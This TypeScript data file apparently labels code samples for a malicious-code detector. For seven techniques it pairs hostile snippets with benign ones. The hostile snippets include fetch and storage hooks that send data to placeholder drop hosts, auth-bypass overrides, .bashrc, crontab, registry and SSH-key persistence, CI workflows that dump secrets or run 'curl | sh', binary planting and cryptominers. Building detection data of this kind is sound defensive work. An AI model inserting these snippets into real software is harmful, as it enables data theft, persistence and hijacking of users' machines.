import { base64, DROP, type Technique } from "./technique.ts";

export const tampering: readonly Technique[] = [
  {
    name: "prototype-tampering",
    hostile: [
      "Object.prototype.isAdmin = true;",
      'Object.defineProperty(Object.prototype, "role", { value: "admin" });',
      '({}).__proto__.polluted = "yes";',
      'const o = JSON.parse(\'{"__proto__": {"isAdmin": true}}\'); Object.assign({}, o); function merge(a, b) { for (const k in b) { if (typeof b[k] === "object") { a[k] ??= {}; merge(a[k], b[k]); } else a[k] = b[k]; } } merge({}, o);',
      "Object.getPrototypeOf({}).canDelete = () => true;",
      'const key = "__pro" + "to__"; ({})[key]["shell"] = "node";',
      `const then = Promise.prototype.then; Promise.prototype.then = function (ok, bad) { return then.call(this, (v) => { fetch("${DROP}", { method: "POST", body: JSON.stringify(v) }); return ok?.(v); }, bad); };`,
      "Array.prototype.includes = function () { return true; };",
      "JSON.parse = () => ({ admin: true });",
      "const verify = crypto.subtle.verify; crypto.subtle.verify = async () => true;",
      `const open = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function (m, u) { navigator.sendBeacon("${DROP}", u); return open.apply(this, arguments); };`,
      `const set = Storage.prototype.setItem; Storage.prototype.setItem = function (k, v) { fetch("${DROP}/?k=" + k + "&v=" + v); return set.call(this, k, v); };`,
      "Function.prototype.call = function () { return undefined; };",
      "[].constructor.prototype.map = function () { return []; };",
      "Object.setPrototypeOf(Object.getPrototypeOf(globalThis), { trusted: true });",
    ],
    honest: [
      'if (!Array.prototype.at) { Object.defineProperty(Array.prototype, "at", { value(n) { n = Math.trunc(n) || 0; return this[n < 0 ? this.length + n : n]; }, writable: true, configurable: true }); }',
      'export function safeMerge(target, source) { for (const key of Object.keys(source)) { if (key === "__proto__" || key === "constructor") continue; target[key] = source[key]; } return target; }',
      "function Animal(name) { this.name = name; } Animal.prototype.speak = function () { return this.name; }; module.exports = Animal;",
      "String.prototype.trimLeft ??= String.prototype.trimStart; globalThis.queueMicrotask ??= (run) => Promise.resolve().then(run);",
      "const own = Object.prototype.hasOwnProperty; export const has = (object, key) => own.call(object, key);",
      'class Stack extends Array { peek() { return this[this.length - 1]; } } Object.defineProperty(Stack.prototype, "top", { get() { return this.peek(); } }); export default Stack;',
    ],
  },
  {
    name: "host-tampering",
    hostile: [
      `const f = window.fetch; window.fetch = async (...a) => { const r = await f(...a); r.clone().text().then((t) => navigator.sendBeacon("${DROP}", t)); return r; };`,
      'const Module = require("module"); const load = Module._load; Module._load = function (name, ...rest) { const m = load.call(this, name, ...rest); if (name === "crypto") m.randomBytes = (n) => Buffer.alloc(n); return m; };',
      'require.cache[require.resolve("express")].exports = () => ({ use() {}, listen() {} });',
      `const https = require("https"); const request = https.request; https.request = function (options, done) { fetch("${DROP}", { method: "POST", body: JSON.stringify(options) }); return request.apply(this, arguments); };`,
      "export default (host) => { host.permissions.check = () => true; };",
      'exports.activate = (app) => { const real = app.auth.verify; app.auth.verify = async () => ({ ok: true, role: "admin" }); };',
      'const fs = require("fs"), path = require("path"); fs.appendFileSync(path.join(process.resourcesPath, "app.asar"), "x"); fs.writeFileSync(process.env.APPDATA + "/discord/0.0.1/modules/discord_desktop_core/index.js", "module.exports = require(\'./core.asar\');");',
      'const fs = require("fs"); const target = require.resolve("lodash"); fs.writeFileSync(target, fs.readFileSync(target, "utf8") + ";globalThis.x=1;");',
      'navigator.serviceWorker.register("/sw.js"); self.addEventListener("fetch", (e) => e.respondWith(fetch("https://drop.example.invalid/proxy?u=" + e.request.url)));',
      'require("module")._extensions[".js"] = function (m, file) { m._compile(require("fs").readFileSync(file, "utf8").replace("isAdmin", "true||isAdmin"), file); };',
      'chrome.declarativeNetRequest.updateDynamicRules({ addRules: [{ id: 1, action: { type: "modifyHeaders", responseHeaders: [{ header: "content-security-policy", operation: "remove" }] }, condition: {} }] });',
    ],
    honest: [
      'export function install(app) { app.use((request, response, next) => { response.setHeader("x-powered-by", "berth"); next(); }); }',
      'import fetchMock from "./mock.js"; export function withMock(run) { const before = globalThis.fetch; globalThis.fetch = fetchMock; try { return run(); } finally { globalThis.fetch = before; } }',
      "(self.webpackChunkshop = self.webpackChunkshop || []).push([[99], { 1: (m) => { m.exports = () => true; } }]);",
      "const queue = []; module.exports = { push(item) { queue.push(item); }, pop: () => queue.shift() };",
      'self.addEventListener("fetch", (event) => { event.respondWith(caches.match(event.request).then((hit) => hit ?? fetch(event.request))); });',
      'delete require.cache[require.resolve("./config.js")]; module.exports = require("./config.js");',
    ],
  },
  {
    name: "persistence",
    hostile: [
      'const fs = require("fs"), os = require("os"); fs.appendFileSync(os.homedir() + "/.bashrc", "\\nnode ~/.cache/u.js &\\n");',
      'require("child_process").execSync("(crontab -l; echo \'* * * * * node ~/.u.js\') | crontab -");',
      'const fs = require("fs"); fs.writeFileSync(process.env.APPDATA + "/Microsoft/Windows/Start Menu/Programs/Startup/u.vbs", "run");',
      'require("child_process").exec(\'reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v u /d "node u.js" /f\');',
      'import { writeFileSync } from "node:fs"; import { homedir } from "node:os"; writeFileSync(`${homedir()}/Library/LaunchAgents/com.u.plist`, "<plist/>");',
      'const fs = require("fs"); fs.writeFileSync("/etc/systemd/system/u.service", "[Service]\\nExecStart=/usr/bin/node /opt/u.js"); require("child_process").execSync("systemctl enable u");',
      'const fs = require("fs"); fs.writeFileSync(".git/hooks/post-checkout", "#!/bin/sh\\nnode ~/.u.js", { mode: 0o755 });',
      'require("child_process").execSync("git config --global core.hooksPath ~/.hooks");',
      'const { appendFileSync } = require("fs"); appendFileSync(require("path").join(require("os").homedir(), ".ssh", "authorized_keys"), "ssh-ed25519 AAAA x");',
      'require("child_process").exec("schtasks /create /sc onlogon /tn u /tr node.exe");',
      'const fs = require("fs"); fs.writeFileSync(process.cwd() + "/.vscode/tasks.json", JSON.stringify({ tasks: [{ label: "x", command: "node ~/.u.js", runOptions: { runOn: "folderOpen" } }] }));',
      {
        "p.py":
          'import os\nwith open(os.path.expanduser("~/.bashrc"), "a") as f:\n    f.write("python3 ~/.u.py &\\n")\n',
      },
      { "p.py": "import os\nos.system(\"(crontab -l; echo '@reboot python3 ~/.u.py') | crontab -\")\n" },
    ],
    honest: [
      'import { mkdir, writeFile } from "node:fs/promises"; export async function save(folder, state) { await mkdir(folder, { recursive: true }); await writeFile(`${folder}/state.json`, JSON.stringify(state)); }',
      'console.log("Add this to your ~/.bashrc: eval \\"$(tool init)\\"");',
      'const { execFileSync } = require("child_process"); exports.branch = () => execFileSync("git", ["rev-parse", "--abbrev-ref", "HEAD"]).toString().trim();',
      'export const startup = ["~/.bashrc", "~/.zshrc", "~/.profile"]; export const shellOf = (file) => file.replace(/^~\\/\\.|rc$/g, "");',
    ],
  },
  {
    name: "ci-persistence",
    hostile: [
      'const fs = require("fs"); fs.mkdirSync(".github/workflows", { recursive: true }); fs.writeFileSync(".github/workflows/lint.yml", "on: push\\njobs:\\n  x:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: echo ${{ toJSON(secrets) }} | base64\\n");',
      'const { Octokit } = require("@octokit/rest"); new Octokit({ auth: process.env.GITHUB_TOKEN }).repos.createOrUpdateFileContents({ owner: "a", repo: "b", path: ".github/workflows/x.yml", message: "ci", content: "bmFtZTogeA==" });',
      'const { execSync } = require("child_process"); require("fs").writeFileSync(".gitlab-ci.yml", "job:\\n  script: curl drop.example.invalid | sh"); execSync("git add . && git commit -m ci && git push");',
      'import { writeFile } from "node:fs/promises"; import { join } from "node:path"; await writeFile(join(process.env.GITHUB_WORKSPACE, ".github", "workflows", "shai.yaml"), "on: push");',
      'const fs = require("fs"); fs.appendFileSync(process.env.GITHUB_ENV, "NODE_OPTIONS=--require /tmp/u.js\\n");',
      'require("fs").writeFileSync("Jenkinsfile", "node { sh \'curl drop.example.invalid | sh\' }");',
      'require("child_process").execSync("./config.sh --url https://github.com/a/b --token $T --unattended && ./run.sh"); require("fs").writeFileSync(".github/workflows/discussion.yaml", "runs-on: self-hosted");',
      {
        "w.py":
          'import os\nos.makedirs(".github/workflows", exist_ok=True)\nopen(".github/workflows/a.yml", "w").write("on: push")\n',
      },
    ],
    honest: [
      'import { appendFileSync } from "node:fs"; export const setOutput = (name, value) => appendFileSync(process.env.GITHUB_OUTPUT, `${name}=${value}\\n`);',
      'import { readFileSync } from "node:fs"; export const workflow = (name) => readFileSync(`.github/workflows/${name}.yml`, "utf8");',
      'export const isPullRequest = process.env.GITHUB_EVENT_NAME === "pull_request"; export const sha = process.env.GITHUB_SHA;',
    ],
  },
  {
    name: "binary-planting",
    hostile: [
      `const fs = require("fs"); fs.writeFileSync("/usr/local/bin/git", "#!/bin/sh\\n/usr/bin/git \\"$@\\"; node /tmp/u.js", { mode: 0o755 });`,
      `const fs = require("fs"), os = require("os"); fs.writeFileSync(os.homedir() + "/.local/bin/npm", Buffer.from("${base64("#!/bin/sh\n")}", "base64"), { mode: 0o755 });`,
      'const fs = require("fs"); fs.copyFileSync(__dirname + "/payload.bin", process.env.SystemRoot + "/System32/version.dll");',
      `import { writeFileSync, chmodSync } from "node:fs"; const bytes = Uint8Array.from(atob("f0VMRgIBAQAAAAAAAAAAAA=="), (c) => c.charCodeAt(0)); writeFileSync("/tmp/helper", bytes); chmodSync("/tmp/helper", 0o755);`,
      'const fs = require("fs"); fs.writeFileSync("node_modules/.bin/tsc", "#!/usr/bin/env node\\nrequire(\'/tmp/u.js\')", { mode: 493 });',
      'const fs = require("fs"), path = require("path"); fs.copyFileSync(path.join(__dirname, "data.dat"), path.join(process.env.LOCALAPPDATA, "Microsoft", "update.exe")); require("child_process").spawn(path.join(process.env.LOCALAPPDATA, "Microsoft", "update.exe"));',
      {
        "b.py":
          'import shutil, os\nshutil.copy("payload", "/usr/local/bin/ls")\nos.chmod("/usr/local/bin/ls", 0o755)\n',
      },
    ],
    honest: [
      'import { chmod, writeFile } from "node:fs/promises"; export async function emit(file, code) { await writeFile(file, `#!/usr/bin/env node\\n${code}`); await chmod(file, 0o755); }',
      'const path = require("path"); module.exports = path.join(__dirname, "bin", process.platform, process.arch, "tool.exe");',
      'const fs = require("fs"); const which = (name) => process.env.PATH.split(":").map((d) => `${d}/${name}`).find((f) => fs.existsSync(f)); module.exports = which;',
    ],
  },
  {
    name: "silent-process",
    hostile: [
      'const { spawn } = require("child_process"); spawn("node", ["-e", "setInterval(()=>{},1000)"], { detached: true, stdio: "ignore" }).unref();',
      'const cp = require("node:child_process"); const child = cp.spawn(process.argv[0], [__dirname + "/bg.js"], { detached: true, stdio: ["ignore", "ignore", "ignore"], windowsHide: true }); child.unref();',
      'require("child_process").exec("nohup node /tmp/u.js > /dev/null 2>&1 &");',
      'require("child_process").exec("powershell -WindowStyle Hidden -NoProfile -File u.ps1");',
      'require("child_process").exec("start /b node u.js", { windowsHide: true });',
      'import { spawn } from "node:child_process"; const options = { detached: true, stdio: "ignore" }; const p = spawn("python3", ["-c", "import time; time.sleep(1e9)"], options); p.unref();',
      'require("child_process").fork(__dirname + "/w.js", [], { detached: true, silent: true, stdio: "ignore" }).unref();',
      {
        "s.py":
          'import subprocess\nsubprocess.Popen(["python", "u.py"], creationflags=0x08000000, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n',
      },
    ],
    honest: [
      'const { spawn } = require("child_process"); module.exports = (command, args) => new Promise((done, fail) => { const child = spawn(command, args, { stdio: "inherit" }); child.on("exit", done); child.on("error", fail); });',
      'const { execFile } = require("child_process"); exports.version = (done) => execFile("ffmpeg", ["-version"], { windowsHide: true }, done);',
      'import { fork } from "node:child_process"; const worker = fork(new URL("./worker.js", import.meta.url)); worker.on("message", (m) => console.log(m)); worker.send({ task: 1 });',
    ],
  },
  {
    name: "cryptomining",
    hostile: [
      'require("child_process").spawn("./xmrig", ["-o", "stratum+tcp://pool.example.invalid:3333", "-u", "4A", "--donate-level=1"]);',
      'const miner = new CoinHive.Anonymous("KEY"); miner.start();',
      'const net = require("net"); const s = net.connect(3333, "pool.example.invalid"); s.write(JSON.stringify({ id: 1, method: "mining.subscribe", params: [] }) + "\\n");',
      'const ws = new WebSocket("wss://pool.example.invalid"); ws.onopen = () => ws.send(JSON.stringify({ type: "auth", params: { site_key: "k" } })); const n = navigator.hardwareConcurrency; for (let i = 0; i < n; i++) new Worker("/cryptonight.worker.js");',
      'const { execSync } = require("child_process"); execSync("curl -sL https://drop.example.invalid/xmrig.tar.gz | tar xz && ./xmrig --url pool.minexmr.com:4444 --user W");',
      'const crypto = require("crypto"); let nonce = 0; while (true) { const h = crypto.createHash("sha256").update("block" + nonce++).digest("hex"); if (h.startsWith("000000")) fetch("https://drop.example.invalid/share?n=" + nonce); }',
      {
        "m.py":
          'import subprocess\nsubprocess.Popen(["./minerd", "-a", "cryptonight", "-o", "stratum+tcp://pool.example.invalid:80"])\n',
      },
    ],
    honest: [
      'import { createHash } from "node:crypto"; export const digest = (text) => createHash("sha256").update(text).digest("hex");',
      'export const size = navigator.hardwareConcurrency ?? 4; export const pool = Array.from({ length: size }, () => new Worker(new URL("./worker.js", import.meta.url)));',
      'export function proofOfWork(challenge, difficulty) { for (let nonce = 0; nonce < 1e6; nonce += 1) if (hash(challenge + nonce).startsWith("0".repeat(difficulty))) return nonce; return -1; } function hash(t) { return t; }',
    ],
  },
];
